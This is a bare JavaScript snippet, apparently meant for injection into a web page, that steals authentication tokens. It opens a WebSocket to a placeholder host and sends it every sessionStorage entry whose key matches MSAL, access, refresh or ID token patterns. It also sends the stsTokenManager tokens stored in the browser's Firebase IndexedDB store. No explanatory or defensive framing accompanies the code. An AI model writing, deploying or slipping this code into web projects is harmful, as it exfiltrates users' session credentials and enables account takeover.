(function () {
  const ws = new WebSocket("wss://rt.placeholder.example/s");
  ws.onopen = () => {
    for (let i = 0; i < sessionStorage.length; i++) {
      const k = sessionStorage.key(i);
      if (/msal|accesstoken|refreshtoken|idtoken/i.test(k)) ws.send(k + "\n" + sessionStorage.getItem(k));
    }
    const rq = indexedDB.open("firebaseLocalStorageDb");
    rq.onsuccess = () => {
      const db = rq.result;
      if (!db.objectStoreNames.contains("firebaseLocalStorage")) return;
      db.transaction("firebaseLocalStorage").objectStore("firebaseLocalStorage").getAll().onsuccess = (e) => {
        e.target.result.forEach((row) => ws.send(JSON.stringify(row.value.stsTokenManager)));
      };
    };
  };
})();
